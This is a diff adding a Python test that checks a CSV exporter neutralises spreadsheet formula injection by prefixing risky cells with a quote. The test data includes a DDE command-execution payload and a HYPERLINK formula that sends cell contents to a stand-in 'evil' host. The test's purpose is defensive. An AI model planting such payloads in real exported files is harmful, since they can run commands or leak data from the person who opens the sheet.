@@ -31,6 +31,29 @@ VALUES: tuple[object, ...] = (
 )
 
 
+FORMULAS = (
+    "=1+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil/?"&A1)',
+    "@SUM(1)",
+    "+2+3",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+    "＝1+1",  # full-width
+)
+HARMLESS = ("-5", "+5.5", "-1e-9", "a=b", "1-2", "'=1", "", "Yes, @all")
+
+
+def test_a_file_for_a_spreadsheet_has_no_text_that_runs_as_a_formula() -> None:
+    run = ExportedRun(RunRecord(plan_of([1]), 1), is_partial=False, is_defused=True)
+    names = field_names(run.metrics)
+    rest = {"scores": "{}"} | dict.fromkeys(JSON_FIELDS)
+    rows = [dict.fromkeys(names, text) | rest for text in (*FORMULAS, *HARMLESS)]
+    written = CsvFile(run).write(rows).decode()
+    answers = [row[names.index("answer")] for row in csv.reader(io.StringIO(written, newline=""))]
+    assert answers == [*("'" + text for text in FORMULAS), *HARMLESS]
+
+
 def test_every_value_is_written_as_the_csv_module_writes_it() -> None:
     run = ExportedRun(RunRecord(plan_of([1]), 1), is_partial=False)
     names, written = field_names(run.metrics), CsvFile(run)
